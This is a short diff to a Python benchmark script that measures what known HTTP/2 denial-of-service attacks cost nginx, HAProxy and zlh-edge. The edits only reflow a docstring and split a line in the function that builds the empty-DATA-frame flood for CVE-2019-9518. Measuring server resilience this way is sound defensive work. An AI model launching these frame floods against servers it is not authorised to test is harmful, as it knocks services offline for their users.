@@ -2,8 +2,8 @@
 """What the known attacks on HTTP/2 cost nginx, HAProxy and zlh-edge, and what an honest client notices of them.
 
 For each attack and peer, on a fresh process: four connections send as fast as they can for some seconds, and connect
-again whenever they are closed; beside them an honest client asks for 1 KiB every few milliseconds on a connection of its
-own. The attacker has a session and runs at a lower priority, so that what the honest client waits for is the peer. No
+again whenever they are closed; beside them an honest client asks for 1 KiB every few milliseconds on a connection of
+its own. The attacker has a session and runs at a lower priority, so that what the honest client waits for is the peer. No
 source limits ours by default, as if every connection came from elsewhere; `--limits` measures one source under them.
 
 frames/s   what the attacker's kernel took, the bytes included that a closed connection never read
@@ -107,7 +107,8 @@ def cookie_bomb(get) -> Attack:
 
 def empty_data(get) -> Attack:
     """CVE-2019-9518."""
-    opening = frame(http2.SETTINGS, 0, 0) + frame(http2.HEADERS, http2.END_HEADERS, 1, get("/post", http2.METHOD_POST)[0])
+    post = get("/post", http2.METHOD_POST)[0]
+    opening = frame(http2.SETTINGS, 0, 0) + frame(http2.HEADERS, http2.END_HEADERS, 1, post)
     return Attack(opening, [frame(http2.DATA, 0, 1)])
 
 
